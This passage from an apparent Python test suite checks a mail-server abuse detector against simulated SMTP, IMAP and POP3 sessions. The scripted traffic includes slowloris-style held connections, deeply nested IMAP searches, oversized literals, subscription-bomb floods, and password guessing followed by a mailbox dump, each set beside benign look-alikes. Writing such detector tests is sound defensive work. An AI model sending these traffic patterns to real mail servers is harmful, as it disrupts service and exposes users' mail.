    quit(stranger(c, hello="EHLO [203.0.113.66]"))


@silent("suspicious-helo")
def localhost_at_home(c):
    quit(greet(D(c, client="192.168.1.5", server="192.168.1.2"), hello="EHLO localhost"))


@fires("scanner", "note", says="greeted 8 servers")
def sweep(c):
    for n in range(8):
        quit(greet(Dialogue(c, client=STRANGER, server="198.51.100.%d" % (20 + n), client_port=41000 + n, at=2.0 * n)))


@silent("scanner")
def seven_servers(c):
    for n in range(14):
        quit(greet(Dialogue(c, client=STRANGER, server="198.51.100.%d" % (20 + n % 7), client_port=41000 + n, at=2.0 * n)))


@silent("scanner", "mass-sending")
def delivers_to_many_servers(c):
    for n in range(9):
        hands_in(greet(Dialogue(c, client="192.0.2.77", server="198.51.100.%d" % (20 + n), client_port=41000 + n, at=2.0 * n)), "ann@example.com", "bob@example.org")


# ---- resource-exhaustion -----------------------------------------------------------------------------------------------


def drip(c, n, hold=120, **where):
    """A connection that stays open on one letter in ten seconds."""
    d = imap(Dialogue(c, port=143, client_port=42000 + n, at=0.1 * n, **where))
    for _ in range(hold // 10):
        d.wait(10).say("C", b"a")
    return d.close()


@fires("resource-exhaustion", "warning", says="held 20 connections")
def slow_loris(c):
    for n in range(20):
        drip(c, n, client=STRANGER)


@silent("resource-exhaustion")
def nineteen_held(c):
    for n in range(19):
        drip(c, n, client=STRANGER)


@silent("resource-exhaustion")
def held_by_twenty_clients(c):
    for n in range(20):
        drip(c, n, client="203.0.113.%d" % (60 + n))


@silent("resource-exhaustion")
def one_after_the_other(c):
    """A probe that looks for a minute and a half whether the server still stands, again and again."""
    for n in range(25):
        d = greet(Dialogue(c, client_port=42000 + n, at=100.0 * n))
        for _ in range(9):
            d.wait(10).talk("C: NOOP", "S: 250 2.0.0 Ok")
        quit(d)


@silent("resource-exhaustion")
def thirty_phones_in_idle(c):
    """Logged in, behind one address."""
    for n in range(30):
        d = imap(Dialogue(c, port=143, client_port=42000 + n, at=0.1 * n)).talk("C: a LOGIN u%d secret" % n, "S: a OK Logged in")
        imap_quit(d.talk("C: b SELECT INBOX", "S: b OK done", "C: c IDLE", "S: + idling").wait(600).talk("C: DONE", "S: c OK done"))


@silent("resource-exhaustion")
def a_server_that_makes_wait(c):
    """The client has asked, and waits: the server is out of breath."""
    for n in range(25):
        d = D(c, client_port=42000 + n, at=0.1 * n).open().talk("S: 220 mail.example.org ESMTP", "C: EHLO client.example.com")
        quit(d.wait(90).talk("S: 250 mail.example.org"))


def noops(d, times, gap):
    for _ in range(times):
        d.wait(gap).talk("C: NOOP", "S: 250 2.0.0 Ok", "C: RSET", "S: 250 2.0.0 Ok")
    return quit(d)


@fires("resource-exhaustion", "warning", says="NOOP and RSET 70000 times")
def nothing_very_often(c):
    d = greet(Dialogue(c, client=STRANGER))
    for _ in range(70):
        d.say("C", b"NOOP\r\n" * 1000).say("S", b"250 2.0.0 Ok\r\n" * 1000)
    quit(d)


@fires("resource-exhaustion", "warning", says="NOOP and RSET 120 times")
def nothing_in_a_hurry(c):
    noops(stranger(c), 60, 0)


@silent("resource-exhaustion")
def nothing_all_day(c):
    """What monitoring does: the connection is kept open, and asked every minute."""
    noops(stranger(c), 60, 60)


@silent("resource-exhaustion")
def reset_around_each_mail(c):
    d, reset = greet(D(c)), ("C: RSET", "S: 250 2.0.0 Ok")
    for _ in range(110):
        d = envelope(d.talk(*reset)).talk("C: DATA", "S: 354 Go").say("C", MAIL + b".\r\n").say("S", "250 2.0.0 Ok: queued").talk(*reset)
    quit(d)


@silent("resource-exhaustion")
def asks_for_recipients(c):
    """What a gateway does that has no list of mailboxes."""
    d = greet(D(c))
    for n in range(110):
        d = envelope(d, "", "user%d@example.org" % n).talk("C: RSET", "S: 250 2.0.0 Ok")
    quit(d)


def asks(c, command):
    imap_quit(imap(D(c, port=143, client=STRANGER)).talk("C: a LOGIN ann secret", "S: a OK Logged in", "C: b " + command, "S: b BAD Too much"))


@fires("resource-exhaustion", "warning", says="parentheses in more than 100 levels")
def nested(c):
    asks(c, "SEARCH " + "(" * 150 + "ALL" + ")" * 150)


@fires("resource-exhaustion", "warning", says="LIST came with a pattern")
def wildcards(c):
    asks(c, 'LIST "" ' + "*%" * 20)


@fires("resource-exhaustion", "warning", says="more than 2 GiB")
def huge_literal(c):
    imap_quit(imap(D(c, port=143, client=STRANGER)).talk("C: a LOGIN {4294967295}", "S: a BAD Literal too large"))


@fires("resource-exhaustion", "warning", says="(OR)")
def alternatives(c):
    asks(c, "UID SORT (DATE) UTF-8 " + "OR SUBJECT a " * 600 + "ALL")


@silent("resource-exhaustion")
def usual_searches(c):
    """Parentheses in quotes, patterns of clients, a list of numbers, a large message."""
    asks(c, 'SEARCH SUBJECT "' + "(" * 200 + '"')
    d = imap(D(c, port=143, client_port=43000, at=5)).talk("C: a LOGIN ann secret", "S: a OK Logged in", 'C: b LIST "" "*"', "S: b OK done")
    d.talk('C: c LSUB "%/%" "%.%"', "S: c OK done", "C: d UID SEARCH " + "OR FROM ann " * 40 + "ALL", "S: d OK done")
    d.talk("C: e UID FETCH 1:9 (UID FLAGS BODY.PEEK[HEADER.FIELDS (DATE FROM)])", "S: e OK done", "C: f APPEND Sent {2000000000}", "S: f NO [TOOBIG] Too large")
    imap_quit(d)


# ---- mass-sending, credential-reuse, mailbox-dump ------------------------------------------------------------------------


def sends(c, mails, recipients, gap=10.0, logged_in=True):
    for n in range(mails):
        d = greet(D(c, port=587, client_port=41000 + n, at=gap * n))
        if logged_in:
            d.talk("C: AUTH PLAIN AGFubgBzM2NyZXQ=", "S: 235 2.7.0 Ok")
        hands_in(d, "ann@example.org", *["u%d-%d@example.net" % (n, i) for i in range(recipients)])


@fires("mass-sending", "warning", says="20 messages to 100 recipients")
def account_of_spammers(c):
    sends(c, 20, 5)


@silent("mass-sending")
def nineteen_messages(c):
    sends(c, 19, 6)


@silent("mass-sending")
def over_the_day(c):
    sends(c, 20, 5, gap=100.0)


@silent("mass-sending")
def server_without_login(c):
    sends(c, 20, 5, logged_in=False)


SUBJECTS = ["Please confirm your subscription", "Welcome to our shop!", "Ihre Anmeldung", "Bienvenue chez nous", "Activate your account",
            "=?UTF-8?B?%s?=" % base64.b64encode("Подтвердите адрес".encode()).decode()]


def floods(c, mails, sites, subjects=SUBJECTS, gap=4.0, to="bob@example.org", by=None):
    for n in range(mails):
        sender = "no-reply@shop%d.example" % (n % sites)
        mail = MAIL.replace(b"Ann <ann@example.com>", sender.encode()).replace(b"Lunch", subjects[n % len(subjects)].encode()).replace(b"<1@", b"<%d@" % n)
        d = greet(Dialogue(c, client="203.0.113.%d" % (n % 200 + 1), client_port=41000 + n, at=gap * n))
        quit(data(envelope(d, by or sender, to), mail).talk("S: 250 2.0.0 Ok: queued"))


@fires("mail-bomb", "warning", says="40 mails of 25 sites")
def subscription_bomb(c):
    floods(c, 40, 25)


@silent("mail-bomb")
def many_mails_of_few_sites(c):
    floods(c, 40, 19)


@silent("mail-bomb")
def busy_mailbox(c):
    """An archive that gets a copy of everything: some of it is of that kind."""
    floods(c, 60, 40, ["Lunch", "Invoice 4711", "Re: confirm 8a7f3", "Your order", SUBJECTS[0]])


@silent("mail-bomb")
def mailing_list_asks_its_people(c):
    floods(c, 40, 40, ["confirm 8a7f3c"], to="staff-request@example.org")


@silent("mail-bomb")
def many_authors_of_one_list(c):
    floods(c, 40, 40, by="dev-bounces@lists.example.net")


@silent("mail-bomb")
def support_desk(c):
    floods(c, 40, 40, ["Problem with registration"], to="it-support@example.org")


@silent("mail-bomb")
def confirmations_over_the_day(c):
    floods(c, 40, 40, gap=100.0)


def logins(c, clients, gap=60.0):
    for n, client in enumerate(clients):
        quit(login(greet(D(c, client=client, client_port=41000 + n, port=587, at=gap * n)), "ann", "235 2.7.0 Ok"))


@fires("credential-reuse", "warning", says="from 5 networks")
def in_five_places(c):
    logins(c, ["192.0.2.1", "198.18.0.1", "203.0.113.1", "198.51.99.1", "192.31.196.1"])


@silent("credential-reuse")
def in_four_places(c):
    logins(c, ["192.0.2.1", "198.18.0.1", "203.0.113.1", "198.51.99.1", "192.0.7.1", "203.0.1.1"])


@silent("credential-reuse")
def in_five_places_over_hours(c):
    logins(c, ["192.0.2.1", "198.18.0.1", "203.0.113.1", "198.51.99.1", "192.31.196.1"], gap=1000.0)


def guess_and_fetch(c, guesses, messages, owner=False, password=lambda n: "p%d" % n):
    for n in range(guesses):
        d = pop3(Dialogue(c, client=STRANGER, port=110, client_port=41000 + n, at=5.0 * n))
        pop3_quit(d.talk("C: USER info", "S: +OK", "C: PASS " + password(n), "S: -ERR [AUTH] Authentication failed."))
    d = pop3(Dialogue(c, client="192.0.2.10" if owner else STRANGER, port=110, client_port=43000, at=5.0 * guesses))
    d.talk("C: USER info", "S: +OK", "C: PASS right", "S: +OK")
    for n in range(messages):
        d.say("C", "RETR %d" % (n + 1)).say("S", b"+OK\r\n" + MAIL + b".\r\n")
    pop3_quit(d)


@fires("mailbox-dump", "critical", says="after 12 failed logins")
def guessed_and_emptied(c):
    guess_and_fetch(c, 12, 25)


@silent("mailbox-dump")
def old_password_then_fetched(c):
    guess_and_fetch(c, 12, 25, password=lambda n: "old")


@silent("mailbox-dump")
def mistyped_and_fetched(c):
    guess_and_fetch(c, 5, 25)


@silent("mailbox-dump")
def owner_fetches(c):
    guess_and_fetch(c, 12, 25, owner=True)
